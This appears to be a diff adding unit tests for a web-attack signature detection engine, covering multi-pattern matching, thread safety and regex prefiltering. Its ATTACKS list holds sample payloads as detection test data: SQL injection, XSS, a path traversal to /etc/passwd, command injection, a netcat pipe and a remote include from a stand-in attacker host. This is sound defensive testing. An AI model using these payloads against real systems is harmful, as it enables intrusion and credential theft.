@@ -0,0 +1,149 @@
+import re
+import random
+import threading
+import unittest
+from datetime import datetime
+from unittest.mock import patch
+
+from app.components.attack_recognizer import WebAttackPattern
+from app.utils.signature_engine import (
+    AhoCorasick, SignatureEngine, WEB_ATTACK_SIGNATURES, literal_text, required_literal
+)
+
+PATHS = ["/index.html", "/api/v1/users?id=42", "/search?q=red+shoes", "/static/app.js", "/login"]
+ATTACKS = [
+    "' UNION SELECT password FROM users--", "<script>alert(1)</script>", "../../etc/passwd",
+    "?f=$(whoami)", "?page=http://evil.example/shell.txt", "?q=`id`", "?x=1|nc 10.0.0.1",
+    "?doc=BOOT.INI", "?s=String.fromCharCode(88)"
+]
+
+
+def http_corpus(count, seed=3, attack_rate=0.1):
+    """Build a synthetic corpus of HTTP requests with some attacks mixed in."""
+    rng = random.Random(seed)
+    corpus = []
+    for _ in range(count):
+        path = rng.choice(PATHS)
+        if rng.random() < attack_rate:
+            path += rng.choice(ATTACKS)
+        agent = rng.choice(["Mozilla/5.0 (X11; Linux x86_64)", "curl/8.0", "python-requests/2.31"])
+        corpus.append(f"GET {path} HTTP/1.1\r\nHost: example.com\r\nUser-Agent: {agent}\r\n"
+                      f"Accept: text/html\r\n\r\n")
+    return corpus
+
+
+def compile_signature(signature):
+    """Compile a signature the way WebAttackPattern used to."""
+    try:
+        return re.compile(signature, re.IGNORECASE)
+    except re.error:
+        return re.compile(re.escape(signature), re.IGNORECASE)
+
+
+class TestSignatureEngine(unittest.TestCase):
+    """Test cases for multi-pattern signature matching."""
+
+    def setUp(self):
+        """Set up test environment."""
+        self.engine = SignatureEngine(WEB_ATTACK_SIGNATURES)
+        self.naive = [(family, [compile_signature(s) for s in signatures])
+                      for family, signatures in WEB_ATTACK_SIGNATURES.items()]
+
+    def naive_scan(self, text):
+        """Match every signature one at a time."""
+        return [family for family, signatures in self.naive
+                if any(signature.search(text) for signature in signatures)]
+
+    def test_automaton_matches_brute_force(self):
+        """Test that the automaton reports every occurrence of every keyword."""
+        rng = random.Random(5)
+        keywords = ["he", "she", "his", "hers", "a", "ab", "bab", "aab"]
+        automaton = AhoCorasick((keyword, keyword) for keyword in keywords)
+        for _ in range(200):
+            text = ''.join(rng.choice("abehirs") for _ in range(rng.randint(0, 30)))
+            expected = sorted((i + len(k) - 1, k) for k in keywords
+                              for i in range(len(text)) if text.startswith(k, i))
+            self.assertEqual(sorted(automaton.iter_matches(text)), expected)
+
+    def test_concurrent_scans(self):
+        """Test that scans on several threads see a complete automaton."""
+        self.assertIsNotNone(self.engine._automaton._tables)
+        corpus = http_corpus(300)
+        expected = [self.engine.scan(payload) for payload in corpus]
+        automaton = AhoCorasick((k, k) for k in ("../", "<script", "union"))
+        results, errors = [], []
+
+        def scan():
+            try:
+                results.append([self.engine.scan(payload) for payload in corpus])
+                for _ in range(50):
+                    list(automaton.iter_matches("GET /../<script>UNION"))
+            except Exception as e:
+                errors.append(e)
+
+        threads = [threading.Thread(target=scan) for _ in range(4)]
+        for thread in threads:
+            thread.start()
+        # Keywords added while other threads search
+        for n in range(20):
+            automaton.add(f"kw{n}", n)
+        for thread in threads:
+            thread.join()
+
+        self.assertEqual(errors, [])
+        self.assertEqual(results, [expected] * 4)
+        self.assertEqual(list(automaton.iter_matches("kw19")), [(2, 1), (3, 19)])
+
+    def test_literal_analysis(self):
+        """Test that literals are recognised and extracted from regexes."""
+        self.assertEqual(literal_text(r"\.\.\/"), "../")
+        self.assertEqual(literal_text(r"alert\("), "alert(")
+        self.assertIsNone(literal_text(r"boot.ini"))
+        self.assertIsNone(literal_text(r";\s*\w+"))
+        self.assertEqual(required_literal(r"\$\(\w+\)"), "$(")
+        self.assertEqual(required_literal(r"document.cookies?"), "document")
+        self.assertIsNone(required_literal(r"a|b"))
+
+    def test_matches_naive_scan(self):
+        """Test that the engine finds the same families as per-signature matching."""
+        for payload in http_corpus(500) + ATTACKS + ["", "plain text"]:
+            self.assertEqual(list(self.engine.scan(payload)), self.naive_scan(payload), payload)
+
+    def test_reports_signature(self):
+        """Test that each matched family reports the signature that matched."""
+        engine = SignatureEngine({'xss': [r"<script>", r"eval\("], 'cmd': [r"\$\(\w+\)"]})
+        self.assertEqual(engine.scan("<SCRIPT>x=$(id)"), {'xss': "<script>", 'cmd': r"\$\(\w+\)"})
+        self.assertEqual(engine.match("eval(1)"), ('xss', r"eval\("))
+        self.assertIsNone(engine.match("$( )"))
+        self.assertEqual(engine.literal_count, 2)
+        self.assertEqual(engine.regex_count, 1)
+
+    def test_web_attack_pattern(self):
+        """Test that web attack detection reports every matched family."""
+        pattern = WebAttackPattern()
+        packet = {'timestamp': datetime(2024, 1, 1), 'src_ip': "10.0.0.9", 'dst_ip': "10.0.0.1",
+                  'dst_port': 80, 'http_request': "GET /?q=%3Cscript%3E../etc/passwd HTTP/1.1"}
+        types = [key[1] for key, _ in pattern.observe(packet, 0)]
+        self.assertIn('xss', types)
+        self.assertIn('path_traversal', types)
+
+        # Matches computed by the packet analyzer are reused
+        packet['web_signatures'] = {'file_inclusion': "zip://"}
+        self.assertEqual(pattern.observe(packet, 0), [(("10.0.0.9", 'file_inclusion'), ())])
+
+    def test_prefilter_skips_regexes(self):
+        """Test that regexes only run on payloads containing a literal they need."""
+        corpus = http_corpus(3000)
+        with patch.object(self.engine, '_alternation', wraps=self.engine._alternation) as alternation:
+            self.engine.scan("GET /index.html HTTP/1.1\r\nHost: shop\r\n\r\n")
+            alternation.assert_not_called()
+            for payload in corpus:
+                self.engine.scan(payload)
+        self.assertLess(alternation.call_count, len(corpus) / 2)
+
+        # The few candidate sets seen are compiled once each
+        self.assertLessEqual(len(self.engine._alternations), self.engine.regex_count)
+
+
+if __name__ == '__main__':
+    unittest.main()